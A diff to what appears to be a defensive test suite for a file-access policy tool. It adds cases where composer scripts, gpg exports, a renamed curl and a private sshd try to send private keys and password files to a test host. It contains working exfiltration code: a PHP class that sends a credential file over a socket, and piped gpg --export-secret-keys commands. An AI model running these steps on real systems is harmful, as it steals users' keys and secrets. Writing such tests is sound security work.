@@ -2,13 +2,16 @@
 """Thefts through programs that the default policy allows to read a file, which run what their user has written: in a
 project, in a configuration, as a command; each beside an honest use."""
 
+import contextlib
 import os
 import shlex
+import tempfile
 
 import mysql
 import scene as stage
 from registry import PORT
 from scene import URL
+from sshd import another_sshd
 
 from net import HOST_V4
 from tap import Skip, require
@@ -70,13 +73,19 @@ def gemfile(s, stolen, _):
 
 
 def composer(s, stolen, _):
-    """composer runs commands of the project."""
+    """composer runs commands of the project, and functions, which send by its ports only."""
     path = s.world.write("ana", ".config/composer/auth.json", '{"http-basic": {}}\n')
     thief = s.world.write("ana", "thief.py", stage.THIEF)
     s.world.write("ana", "php/composer.json", """{"scripts": {
-        "child": "/usr/bin/python3 %s %s %s", "honest": "curl -sS %s"}}""" % (thief, path, HOST_V4, URL), 0o644)
+        "child": "/usr/bin/python3 %s %s %s", "own": "Thief::send", "honest": "curl -sS %s"},
+        "autoload": {"classmap": ["Thief.php"]}}""" % (thief, path, HOST_V4, URL), 0o644)
+    s.world.write("ana", "php/Thief.php", f"""<?php
+        class Thief {{ static function send() {{
+            $loot = file_get_contents("{path}");
+            fwrite(fsockopen("{HOST_V4}", {OTHER_PORT}, $e, $m, 2) ?: STDERR, $loot); }} }}\n""", 0o644)
     run = ["composer", "--no-interaction", "--working-dir=php", "--no-plugins", "run-script"]
     stolen(s, [*run, "child"], path, "python", "ana", timeout=COMPOSER_TIMEOUT)
+    stolen(s, [*run, "own"], path, "php", "ana", port=OTHER_PORT, timeout=COMPOSER_TIMEOUT)
     s.silent([*run, "honest"], "ana", timeout=COMPOSER_TIMEOUT)
 
 
@@ -134,6 +143,97 @@ def gpg_connect_agent(s, stolen, sender):
         s.world.do("gpgconf", "--kill", "all", user="ana")
 
 
+def gpg_exports(s, stolen, sender):
+    """gpg prints a key, or writes it to a file, with an option that is written out or not; its other work."""
+    s.world.do("sh", "-ec", "gpg -q --batch --passphrase '' --quick-generate-key ana@example.org default default never",
+               user="ana")
+    backup = "/usr/local/bin/backup"
+    s.world.stand_in(backup)
+    try:
+        agent = s.world.do("gpgconf", "--list-dirs", "agent-socket", user="ana").strip()
+        options = s.world.write("ana", "options", "export-secret-keys\n", 0o644)
+        for export in ("gpg --export-secret-keys", "gpg -a --export-secret-sub", f"gpg --options {options} -o-",
+                       "gpg --batch --no-tty --export-secret-keys " + "x " * 300):
+            stolen(s, ["sh", "-c", f"{export} | {sender}"], agent, "python", "ana", needs="gpg")
+        stolen(s, ["sh", "-c", f"gpg -o loot --export-secret-keys; {sender} loot"], agent, "python", "ana")
+        key = s.world.do("sh", "-ec", "echo ~/.gnupg/private-keys-v1.d/*.key", user="ana").split()[0]
+        stolen(s, ["sh", "-c", f"gpg --enarmor <{key} | {sender}"], key, "python", "ana")
+        stolen(s, ["sh", "-c", f"gpg -o - --store {key} | {sender}"], key, "python", "ana")
+        s.silent(["sh", "-ec", "mkdir repository; cd repository; git init -q; git -c user.name=ana -c "
+                  "user.email=ana@example.org -c user.signingkey=ana@example.org commit -q -S --allow-empty -m signed; "
+                  f"git verify-commit HEAD; git push -q http://{HOST_V4}:{PORT}/x HEAD || curl -sS {URL}"], "ana",
+                 needs="git")
+        s.silent(["sh", "-ec", "echo text | gpg -q -e -r ana@example.org >mail.gpg; gpg -q -d mail.gpg; "
+                  f"gpg -q --export -a | {sender}; gpg -K; curl -sS {URL}"], "ana")
+        s.silent(["sh", "-ec", f"gpg -o own.gpg --export-secret-keys; exec {backup} blocking own.gpg {HOST_V4} 443"],
+                 "ana", needs="/usr/bin/env")
+    finally:
+        s.world.do("gpgconf", "--kill", "all", user="ana")
+
+
+# Rules of the site.
+SITE = """
+[Allow site-backup]
+Class=gpg-private-keys agent-sockets
+Exe=/usr/local/bin/backup
+Destination=any:443
+[Allow site-named]
+Path=~/.pgpass
+Exe=/usr/local/bin/named
+ExcludeArgument=--print*
+"""
+
+
+@contextlib.contextmanager
+def rules():
+    """A directory with them."""
+    with tempfile.TemporaryDirectory(prefix="barbwire-site-") as directory:
+        with open(f"{directory}/90-site.conf", "w", encoding="utf-8") as conf:
+            conf.write(SITE)
+        yield directory
+
+
+def named(s, stolen, _):
+    """A rule for one file of a class, by the name that it has; and not with an option."""
+    s.world.do("install", "-D", "-m", "755", "/usr/bin/curl", "/usr/local/bin/named")
+    path, other = (s.world.write("ana", name, "decoy\n") for name in (".pgpass", ".pg_service.conf"))
+    linked = f"{s.world.home_of('ana')}/linked"
+    s.world.do("sh", "-c", f"ln {path} {linked}; ln -s {path} led", user="ana")
+
+    def send(name, *options):
+        return ["/usr/local/bin/named", *options, "-sS", "--data-binary", f"@{name}", URL]
+    for name, *options in (path,), ("led",), (path, "-H", "x: --print"):
+        s.silent(send(name, *options), "ana", needs="curl")
+    many = [option for i in range(70) for option in ("-H", f"x{i}: {'x' * 200}")]
+    for name, *options in (other,), (linked,), (path, "-H", "--print: x"), (path, *many, "-H", "--print: x"):
+        stolen(s, send(name, *options), name, "named", "ana", port=None, needs="curl")
+
+
+SFTP_CONFIG = """
+Port 2224
+HostKey {home}/sftpkey
+AuthorizedKeysFile {home}/.ssh/authorized_keys
+UsePAM no
+StrictModes no
+PidFile none
+Subsystem sftp internal-sftp
+"""
+
+
+def own_sftp(s, stolen, _):
+    """An sshd of her own hands out a key by internal-sftp, as the system's does to the person who is logged in."""
+    home = s.world.home_of("ana")
+    options = [*s.server.options("ana"), "-o", "BatchMode=yes"]
+    key = f"{home}/.ssh/id_sftp"
+    s.world.do("sh", "-ec", f"ssh-keygen -q -t ed25519 -N '' -f sftpkey; ssh-keygen -q -t ed25519 -N '' -f {key}",
+               user="ana")
+    conf = s.world.write("ana", "sftp_config", SFTP_CONFIG.format(home=home))
+    get = ["sftp", *options, "-q"]
+    s.silent([*get, f"ana@{HOST_V4}:{key}", "/dev/null"], "ana")
+    with another_sshd(s, "ana", conf):
+        stolen(s, [*get, "-P", "2224", f"ana@{HOST_V4}:{key}", "/dev/null"], key, "sshd", "ana", port=None)
+
+
 def mysql_load(s, stolen, _):
     """mysql loads a file into a table: the password of another client, or an honest one."""
     path = s.world.write("ana", ".pgpass", "*:*:*:ana:decoy\n")
@@ -176,6 +276,8 @@ def cases(t, s, server, stolen, sender):
     for what, play in (("a Gemfile", gemfile), ("the commands of a project of composer", composer),
                        ("a .pnpmfile.cjs", pnpm), ("exim with a configuration of her own", exim),
                        ("terraform console", terraform), ("a key from gpg's agent", gpg_connect_agent),
+                       ("a rule for one file", named), ("gpg exports a key", gpg_exports),
+                       ("an sshd of her own, by internal-sftp", own_sftp),
                        ("mysql loads the password of another client", mysql_load),
                        ("a library by FUSE that is root's by its own word", fuse)):
         t.case(f"ana: {what}", play, s, stolen, sender)
